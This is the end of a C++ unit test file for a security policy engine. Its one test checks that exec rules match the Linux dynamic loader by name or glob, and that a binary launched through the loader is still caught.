TEST(DynamicLoader, ARuleMayNameTheLoader) {
  Engine e = engine_for(R"(version: 1
exec:
  - { id: loader-by-name, binary: [ld-linux-x86-64.so.2], severity: warning }
  - { id: loader-by-glob, binary: ["/usr/lib/**/ld-linux-*"], severity: warning }
  - { id: cat, binary: [cat], severity: warning }
)");
  Events out;
  e.evaluate(exec(process(5, "ld-linux-x86-6", "/usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2", {}, {}),
                  "/usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2", {"/lib64/ld-linux-x86-64.so.2", "/bin/cat", "/f"}),
             out);
  EXPECT_EQ(ids(out), (Strings{"cat", "loader-by-glob", "loader-by-name"}));
}

}  // namespace
}  // namespace clawfence::policy
